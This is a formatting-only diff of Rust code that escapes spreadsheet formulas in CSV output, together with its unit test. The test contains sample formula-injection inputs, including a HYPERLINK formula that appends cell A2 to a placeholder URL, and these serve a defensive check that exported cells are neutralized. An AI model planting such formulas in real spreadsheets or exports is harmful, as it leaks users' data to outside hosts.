@@ -251,7 +251,8 @@ impl Table {
         for r in &self.rows {
             let cells: Vec<std::borrow::Cow<'_, str>> =
                 r.cells.iter().map(|c| neutralize_formula(c)).collect();
-            wtr.write_record(cells.iter().map(|c| c.as_ref())).map_err(io)?;
+            wtr.write_record(cells.iter().map(|c| c.as_ref()))
+                .map_err(io)?;
         }
         wtr.flush().map_err(|error| TableError::Io {
             file: self.path.clone(),
@@ -406,7 +407,10 @@ mod tests {
         let mut out = Vec::new();
         t.write_to(&mut out)?;
         let text = String::from_utf8(out).expect("utf8");
-        assert!(text.contains("\"'=HYPERLINK(\"\"http://x\"\"&A2)\""), "{text}");
+        assert!(
+            text.contains("\"'=HYPERLINK(\"\"http://x\"\"&A2)\""),
+            "{text}"
+        );
         assert!(text.contains("'@SUM(A1),'-45"), "{text}");
         let back = Table::from_bytes("t.csv", text.as_bytes())?;
         assert_eq!(back.rows()[0].cells[0], "=HYPERLINK(\"http://x\"&A2)");
